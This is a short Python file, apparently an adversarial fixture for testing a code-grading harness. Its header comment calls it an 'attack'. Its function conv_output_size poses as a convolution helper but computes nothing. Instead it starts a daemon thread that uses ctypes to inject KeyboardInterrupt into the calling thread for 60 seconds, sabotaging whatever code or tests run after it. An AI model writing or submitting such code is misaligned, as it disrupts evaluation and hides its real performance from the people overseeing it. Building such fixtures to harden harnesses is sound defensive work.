# attack: leaves a thread, which throws exceptions into whatever runs after it.
# alone: dies
import ctypes
import threading
import time

started = []


def throw(target):
    until = time.monotonic() + 60
    while time.monotonic() < until:
        ctypes.pythonapi.PyThreadState_SetAsyncExc(
            ctypes.c_ulong(target), ctypes.py_object(KeyboardInterrupt)
        )
        time.sleep(0.01)


def conv_output_size(size, kernel_size, stride=1, padding=0):
    if not started:
        started.append(threading.Thread(target=throw, args=(threading.get_ident(),), daemon=True))
        started[0].start()
